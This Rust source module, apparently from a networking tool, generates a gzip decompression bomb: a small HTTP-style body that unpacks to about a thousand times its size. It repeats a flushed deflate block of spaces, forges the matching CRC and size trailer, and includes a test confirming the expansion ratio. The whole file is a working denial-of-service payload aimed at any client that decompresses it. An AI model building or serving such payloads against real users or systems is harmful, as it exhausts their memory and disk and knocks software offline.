//! A gzip body that is a thousand times larger than it looks.

use std::io::Write as _;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress, GzBuilder};

use crate::net::Payload;

/// What one piece unpacks to.
const PIECE: usize = 1 << 20;

/// The payload, and its true size when unpacked: the wanted size, rounded up to pieces.
///
/// The same piece comes again and again: behind a full flush nothing of a piece depends on what
/// came before it.
pub(super) fn bomb(unpacked: u64) -> (Payload, u64) {
    let pieces = unpacked.div_ceil(PIECE as u64).max(1);
    let blanks = vec![b' '; PIECE];
    let mut piece = Vec::with_capacity(4 * 1_024);
    let mut deflate = Compress::new(Compression::best(), false);
    // Into memory of this size it cannot fail.
    let _ = deflate.compress_vec(&blanks, &mut piece, FlushCompress::Full);
    let mut crc = Crc::new();
    crc.update(&blanks);
    let crc = repeated(&crc, pieces);
    let size = pieces * PIECE as u64;

    // An empty last block, checksum and size.
    let mut tail = vec![3, 0];
    tail.extend_from_slice(&crc.sum().to_le_bytes());
    tail.extend_from_slice(&((size & 0xffff_ffff) as u32).to_le_bytes());
    let payload = Payload::Filled {
        head: gzip_header(),
        amount: pieces * piece.len() as u64,
        filling: Bytes::from(piece),
        tail: Bytes::from(tail),
        declared: true,
    };
    (payload, size)
}

fn gzip_header() -> Bytes {
    let mut encoder = GzBuilder::new().write(Vec::new(), Compression::best());
    let _ = encoder.flush();
    Bytes::copy_from_slice(encoder.get_ref().get(..10).unwrap_or_default())
}

/// The checksum of so many times the same bytes, by doubling.
fn repeated(once: &Crc, times: u64) -> Crc {
    let copy = |crc: &Crc| {
        let mut copy = Crc::new();
        copy.combine(crc);
        copy
    };
    let (mut sum, mut power, mut rest) = (Crc::new(), copy(once), times);
    while rest > 0 {
        if rest & 1 == 1 {
            sum.combine(&power);
        }
        let twice = copy(&power);
        power.combine(&twice);
        rest >>= 1;
    }
    sum
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use super::*;

    #[test]
    fn it_unpacks_to_blanks_with_the_right_checksum() {
        let (payload, size) = bomb(5_000_000);
        let Payload::Filled {
            head,
            filling,
            amount,
            tail,
            ..
        } = payload
        else {
            panic!("the bomb is filled")
        };
        let mut packed = head.to_vec();
        while (packed.len() as u64) < head.len() as u64 + amount {
            packed.extend_from_slice(&filling);
        }
        packed.extend_from_slice(&tail);
        let mut unpacked = Vec::new();
        flate2::read::GzDecoder::new(&packed[..])
            .read_to_end(&mut unpacked)
            .unwrap();
        assert_eq!(unpacked.len() as u64, size);
        assert!((5_000_000..6_100_000).contains(&size));
        assert!(unpacked.iter().all(|byte| *byte == b' '));
        assert!(packed.len() * 500 < unpacked.len(), "{}", packed.len());
    }
}
